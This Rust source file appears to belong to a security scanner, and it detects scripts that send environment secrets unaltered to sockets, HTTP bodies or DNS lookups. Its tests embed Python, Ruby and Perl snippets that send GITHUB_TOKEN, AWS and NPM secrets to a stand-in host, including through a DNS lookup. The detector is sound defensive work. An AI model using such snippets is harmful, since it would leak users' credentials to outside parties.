//! Secrets of the environment that a script hands over as they are: to a bare socket, as the body of a request, in a name that
//! is looked up.

use std::collections::HashMap;

use super::flow::{Flow, name, names};
use super::lex::{Placed, Token};
use super::reach::apart;
use super::sinks::{Called, inside};
use super::taint::holes;
use super::together::{Addresses, is_key};
use super::words::{self, has};
use super::{Language, Told};
use crate::rules::shell as rules;

/// 64 names that hold such secrets.
const NAMES: usize = 64;

/// 24 words and signs by which a name is given one.
const GIVEN: usize = 24;

/// What reads the environment.
const READS: &[&str] = &["environ", "getenv", "ENV", "$ENV", "$_ENV", "$_SERVER"];

/// What opens a connection by which bytes go as they are.
const SOCKETS: &[&str] = &[
    "socket",
    "create_connection",
    "open_connection",
    "Socket",
    "TCPSocket",
    "UDPSocket",
    "fsockopen",
    "stream_socket_client",
    "socket_create",
];

/// What writes to it, by the language.
const WRITES: &[(Language, &[&str])] = &[
    (Language::Python, &["sendall", "send", "sendto", "sendmsg", "write"]),
    (Language::Ruby, &["write", "puts", "print", "send", "syswrite", "write_nonblock"]),
    (Language::Perl, &["print", "printf", "send", "syswrite", "write", "say"]),
    (Language::Php, &["fwrite", "fputs", "socket_write", "socket_send", "socket_sendto"]),
];

/// What makes of a secret something that tells nothing of it.
const SIGNS: &[&str] =
    &["hmac", "HMAC", "hash_hmac", "digest", "hexdigest", "sha256", "sha256_hex", "hmac_sha256_hex", "len", "length"];

/// What stands before a secret that is shown to whom it is for.
const SHOWN: &[&str] = &["authorization", "x-api-key", "pass ", "auth ", "login ", "bearer", "oauth"];

/// Secrets of the environment, and where one is handed over.
#[derive(Debug, Default)]
pub(super) struct Secrets {
    /// Which variable a name holds.
    held: HashMap<String, String>,
    given: Option<(usize, String)>,
}

impl Flow<'_> {
    /// Remembers the name that a statement gives a secret: `token = os.environ["API_TOKEN"]`.
    pub(super) fn holds_secret(&mut self, tokens: &[Placed]) {
        let Some(equals) = tokens.iter().take(GIVEN).position(|placed| placed.token == Token::Sign('=')) else {
            return;
        };
        let (left, value) = tokens.split_at(equals);
        let begins = names(value.get(..value.len().min(4)).unwrap_or_default()).any(|name| READS.contains(&name));
        if !begins || value.len() > GIVEN || self.secrets.held.len() >= NAMES {
            return;
        }
        if let Some(secret) = self.secret_in(value) {
            let own = names(left).filter(|name| !words::AROUND.contains(name));
            self.secrets.held.extend(own.map(|name| (name.to_owned(), secret.clone())));
        }
    }

    /// The secret variable that the tokens give as it is.
    fn secret_in(&self, tokens: &[Placed]) -> Option<String> {
        let is_read = |at: usize| {
            let before = tokens.get(at.saturating_sub(4)..at).unwrap_or_default();
            names(before).any(|name| READS.contains(&name) || name == "get" || name == "fetch")
        };
        let one = |(at, placed): (usize, &Placed)| match &placed.token {
            Token::Name(own) if self.secrets.held.contains_key(own) => self.secrets.held.get(own).cloned(),
            Token::Name(own) | Token::Text(own) if is_key(own) && is_read(at) => Some(own.clone()),
            Token::Text(text) if text.contains("${") => self.secret_in_text(text),
            _ => None,
        };
        let is_shown = |placed: &Placed| match &placed.token {
            Token::Text(text) => {
                let lower = text.to_ascii_lowercase();
                SHOWN.iter().any(|word| lower.contains(word))
            }
            Token::Name(name) => SIGNS.contains(&name.as_str()),
            _ => false,
        };
        let found = tokens.iter().enumerate().find_map(one)?;
        (!tokens.iter().any(is_shown)).then_some(found)
    }

    /// The secret that is put into a text.
    fn secret_in_text(&self, text: &str) -> Option<String> {
        let reads = READS.iter().any(|word| text.contains(word)) || self.language == Language::Perl;
        let mut words = holes(text).flat_map(|hole| hole.split(|c: char| !c.is_alphanumeric() && c != '_'));
        words.find_map(|word| match self.secrets.held.get(word) {
            Some(secret) => Some(secret.clone()),
            None => (reads && is_key(word)).then(|| word.to_owned()),
        })
    }

    /// Remembers a call that hands one over.
    pub(super) fn hands_over(&mut self, call: &Called<'_>, tokens: &[Placed]) {
        if !self.last || self.secrets.given.is_some() {
            return;
        }
        let all = self.given(call, tokens);
        let is_whole = has(words::ASKS, call.path, call.last) || self.writes_bare(call, tokens);
        let given: Option<&[Placed]> = if is_whole {
            Some(tokens.get(call.next..).unwrap_or_default())
        } else {
            let is_body =
                |argument: &&&[Placed]| argument.first().is_some_and(|placed| name(&placed.token) == Some("body"));
            let at = match (self.language, call.last) {
                (Language::Python, "request") if self.uses.any(&["HTTPConnection", "HTTPSConnection"]) => Some(2),
                (Language::Ruby, "post" | "put" | "request_post" | "patch") if self.uses.any(&["HTTP"]) => Some(1),
                _ => None,
            };
            at.and_then(|at| all.iter().find(is_body).or_else(|| all.get(at))).copied()
        };
        let found = given.and_then(|given| {
            let is_called = given.first().is_some_and(|placed| placed.token == Token::Sign('('));
            self.secret_in(if is_called { inside(given) } else { given })
        });
        self.secrets.given = found.map(|secret| (call.at, secret));
    }

    /// Whether the call writes to a connection as it is.
    fn writes_bare(&self, call: &Called<'_>, tokens: &[Placed]) -> bool {
        let is_one = WRITES.iter().any(|(language, words)| *language == self.language && words.contains(&call.last));
        if !is_one || !self.uses.any(SOCKETS) || self.uses.any(&["AF_UNIX"]) {
            return false;
        }
        let owner = call.path.rsplit_once('.').map_or("", |(owner, _)| owner);
        let first = tokens.get(call.next).map(|placed| &placed.token);
        let second = tokens.get(call.next.saturating_add(1)).map(|placed| &placed.token);
        match self.language {
            Language::Python => !owner.is_empty() && (call.last != "write" || self.uses.any(&["open_connection"])),
            Language::Perl if matches!(call.last, "print" | "printf" | "say") => {
                let is_handle = |token: Option<&Token>| token.and_then(name).is_some_and(|name| name.starts_with('$'));
                let is_plain = is_handle(first) && matches!(second, Some(Token::Text(_) | Token::Name(_)));
                !owner.is_empty() || is_plain || first == Some(&Token::Sign('{')) && is_handle(second)
            }
            Language::Ruby => {
                !owner.is_empty() && !matches!(owner, "$stdout" | "$stderr" | "STDOUT" | "STDERR" | "File")
            }
            Language::Php => !second.and_then(name).is_some_and(|name| name.starts_with("STD")),
            _ => true,
        }
    }

    /// A secret that is handed over to somebody else than whom it is for.
    pub(super) fn handed_over(&self, told: &mut Told<'_, '_>) {
        let Some((at, secret)) = &self.secrets.given else { return };
        let is_host = |text: &str| text.len() < 200 && text.contains('.') && !text.contains([' ', '$', '{']);
        let host = |placed: &Placed| match &placed.token {
            Token::Text(text) if is_host(text) => Some(text.to_ascii_lowercase()),
            _ => None,
        };
        let hosts = Addresses(self.lexed.tokens.iter().filter_map(host).collect());
        if !hosts.are_for(secret) {
            let message = format!("{secret} is handed over as it is");
            told.tell(&rules::EXFIL, *at, &message, told.by_itself());
        }
    }
}

impl Flow<'_> {
    /// What stands between the commas behind a call, with brackets or without.
    pub(super) fn given<'t>(&self, call: &Called<'_>, tokens: &'t [Placed]) -> Vec<&'t [Placed]> {
        let rest = tokens.get(call.next..).unwrap_or_default();
        let is_called = rest.first().is_some_and(|placed| placed.token == Token::Sign('('));
        match self.language {
            _ if is_called => apart(inside(rest)),
            Language::Perl | Language::Ruby => apart(tokens.get(call.next.saturating_sub(1)..).unwrap_or_default()),
            _ => vec![rest],
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::finding::Severity;
    use crate::interpreted::tests::of;

    #[test]
    fn secrets_that_are_handed_over_as_they_are_leave() {
        for (by, path, text) in [
            (
                "python3",
                "a.py",
                "import os, socket\ns = socket.create_connection(('x.invalid', 80))\ns.sendall(os.environ['GITHUB_TOKEN'].encode())\n",
            ),
            (
                "python3",
                "a.py",
                "import os, http.client\nc = http.client.HTTPSConnection('x.invalid')\nt = os.getenv('AWS_SECRET_ACCESS_KEY')\nc.request('POST', '/', body=t)\n",
            ),
            (
                "python3",
                "a.py",
                "import os, socket\nt = os.environ.get('NPM_TOKEN')\nsocket.gethostbyname(f'{t}.x.invalid')\n",
            ),
            ("ruby", "a.rb", "require 'socket'\ns = TCPSocket.new('x.invalid', 80)\ns.puts ENV['GITHUB_TOKEN']\n"),
            (
                "perl",
                "a.pl",
                "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new('x.invalid:80');\nprint $s $ENV{GITHUB_TOKEN};\n",
            ),
        ] {
            assert_eq!(of(by, path, text), Some(Severity::Danger), "{text}");
        }
        for (by, path, text) in [
            (
                "python3",
                "a.py",
                "import os, http.client\nc = http.client.HTTPSConnection('api.github.com')\nc.request('POST', '/', '{}', {'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']})\n",
            ),
            (
                "python3",
                "a.py",
                "import os, http.client\nc = http.client.HTTPSConnection('github.com')\nc.request('POST', '/login', os.environ['GITHUB_CLIENT_SECRET'])\n",
            ),
            (
                "python3",
                "a.py",
                "import os, socket, hmac\nk = os.environ['RELAY_SECRET']\ns = socket.create_connection(('relay.example.com', 80))\ns.sendall(hmac.new(k.encode(), b'x', 'sha256').digest())\n",
            ),
            (
                "ruby",
                "a.rb",
                "require 'socket'\nputs ENV['GITHUB_TOKEN'] ? 'set' : 'missing'\nTCPSocket.new('a.invalid', 1).puts 'x'\n",
            ),
            ("python3", "a.py", "import os, socket\nprint(socket.gethostbyname(os.environ['DB_HOST']))\n"),
        ] {
            assert!(of(by, path, text).is_none_or(|severity| severity < Severity::Danger), "{text}");
        }
    }
}
